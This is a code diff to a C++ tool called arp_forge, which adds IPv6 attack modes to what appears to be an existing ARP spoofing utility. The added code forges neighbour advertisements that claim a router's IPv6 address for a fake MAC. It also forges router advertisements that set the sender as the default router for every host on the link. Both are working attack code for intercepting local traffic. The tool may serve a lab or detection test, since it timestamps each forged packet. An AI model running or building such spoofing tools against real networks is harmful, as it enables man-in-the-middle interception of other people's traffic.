@@ -9,6 +9,14 @@
 // link-layer address of its own, and prints one line: "storm FRAMES SECONDS".
 //
 // Prints one line with the wall-clock time in microseconds for every reply sent.
+//
+//   arp_forge IFACE na ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
+//   arp_forge IFACE ra [COUNT [INTERVAL_MS]]
+//
+// The IPv6 forms, to every node of the link from the attacker's own link-local address: an
+// unsolicited neighbour advertisement with the router and override flags that claims the router's
+// address for FAKE_MAC; a router advertisement that offers the attacker as a default router for
+// 30 minutes. Each prints the same lines.
 #include <arpa/inet.h>
 #include <chrono>
 #include <cstdint>
@@ -17,6 +25,7 @@
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
 #include <net/if.h>
+#include <netinet/in.h>
 #include <string>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
@@ -36,9 +45,86 @@ bool parseMac(const char* text, unsigned char mac[6]) {
     return true;
 }
 
+void printSent() {
+    const auto now = std::chrono::duration_cast<std::chrono::microseconds>(
+        std::chrono::system_clock::now().time_since_epoch());
+    std::printf("forged %lld\n", static_cast<long long>(now.count()));
+    std::fflush(stdout);
+}
+
+// Neighbour discovery over a raw ICMPv6 socket, whose checksum the kernel fills in; its messages
+// count only with a hop limit of 255.
+int forgeNeighbourDiscovery(int argc, char** argv) {
+    const bool advertiseRouter = std::string(argv[2]) == "ra";
+    const int first = advertiseRouter ? 3 : 5;
+    unsigned char message[32] = {};
+    std::size_t length = 0;
+    if (advertiseRouter) {
+        message[0] = 134;
+        message[4] = 64;   // hop limit
+        message[6] = 0x07; // router lifetime 1800 s
+        message[7] = 0x08;
+        message[16] = 1; // source link-layer address option, filled in below
+        message[17] = 1;
+        length = 24;
+    } else {
+        in6_addr router{};
+        if (argc < 5 || ::inet_pton(AF_INET6, argv[3], &router) != 1 ||
+            !parseMac(argv[4], message + 26)) {
+            std::fprintf(stderr, "arp_forge: bad address\n");
+            return 2;
+        }
+        message[0] = 136;
+        message[4] = 0x80 | 0x20; // router, override
+        std::memcpy(message + 8, &router, 16);
+        message[24] = 2; // target link-layer address option
+        message[25] = 1;
+        length = 32;
+    }
+    const int count = argc > first ? std::stoi(argv[first]) : 1;
+    const int intervalMs = argc > first + 1 ? std::stoi(argv[first + 1]) : 1000;
+    const int fd = ::socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
+    if (fd < 0) {
+        std::perror("arp_forge: socket");
+        return 1;
+    }
+    ifreq request{};
+    std::strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
+    if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) {
+        std::perror("arp_forge: interface address");
+        return 1;
+    }
+    if (advertiseRouter) {
+        std::memcpy(message + 18, request.ifr_hwaddr.sa_data, 6);
+    }
+    const int hops = 255;
+    const int index = static_cast<int>(::if_nametoindex(argv[1]));
+    ::setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
+    ::setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
+    sockaddr_in6 to{};
+    to.sin6_family = AF_INET6;
+    to.sin6_scope_id = static_cast<std::uint32_t>(index);
+    ::inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
+    for (int i = 0; i < count; ++i) {
+        if (i > 0) {
+            std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
+        }
+        if (::sendto(fd, message, length, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) {
+            std::perror("arp_forge: sendto");
+            return 1;
+        }
+        printSent();
+    }
+    ::close(fd);
+    return 0;
+}
+
 } // namespace
 
 int main(int argc, char** argv) {
+    if (argc >= 3 && (std::string(argv[2]) == "na" || std::string(argv[2]) == "ra")) {
+        return forgeNeighbourDiscovery(argc, argv);
+    }
     if (argc < 6) {
         std::fprintf(stderr, "usage: arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC "
                              "[COUNT [INTERVAL_MS [request|storm]]]\n");
@@ -127,10 +213,7 @@ int main(int argc, char** argv) {
             std::perror("arp_forge: sendto");
             return 1;
         }
-        const auto now = std::chrono::duration_cast<std::chrono::microseconds>(
-            std::chrono::system_clock::now().time_since_epoch());
-        std::printf("forged %lld\n", static_cast<long long>(now.count()));
-        std::fflush(stdout);
+        printSent();
     }
     ::close(fd);
     return 0;
